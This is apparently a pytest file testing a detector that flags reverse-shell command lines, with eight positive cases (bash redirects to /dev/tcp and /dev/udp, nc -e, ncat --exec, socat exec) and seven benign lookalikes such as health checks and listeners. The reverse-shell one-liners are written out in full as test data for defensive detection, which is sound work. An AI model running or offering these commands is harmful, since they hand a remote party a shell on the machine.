"""tables/severity.py: content predicates that make a row an attacker's by what it says."""

from __future__ import annotations

import pytest

from diffy_analysis.tables.severity import reverse_shell


@pytest.mark.parametrize(
    "cmdline",
    [
        "bash -c bash -i >& /dev/tcp/198.51.100.152/5555 0>&1",
        "sh -c exec 5<>/dev/tcp/10.0.0.1/4444; cat <&5 | while read l; do $l 2>&5 >&5; done",
        "/bin/bash -i > /dev/udp/203.0.113.9/53 0<&1 2>&1",
        "nc -e /bin/sh 10.0.0.1 4444",
        "ncat --exec /bin/sh 192.0.2.10 443",
        "ncat --sh-exec=id 192.0.2.10 443",
        "socat exec:'bash -li',pty,stderr tcp:192.0.2.4:4444",
        "socat TCP4:192.0.2.4:4444 EXEC:/bin/sh",
    ],
)
def test_shells_wired_to_a_remote_socket_are_reverse_shells(cmdline):
    assert reverse_shell(cmdline) is not None


@pytest.mark.parametrize(
    "cmdline",
    [
        "timeout 1 bash -c </dev/tcp/127.0.0.1/5432",  # a container health check on loopback
        "bash -c cat < /dev/tcp/10.0.0.5/80",  # reads a socket, no shell wired to it
        "bash -i",
        "nc -lvnp 4444",
        "nc -zv db.internal 5432",
        "socat TCP-LISTEN:8080,fork TCP:10.0.0.7:80",  # a port forwarder hands nothing to a program
        "/usr/bin/python3 /opt/app/server.py --listen 0.0.0.0:8080",
    ],
)
def test_probes_listeners_and_forwarders_are_not(cmdline):
    assert reverse_shell(cmdline) is None
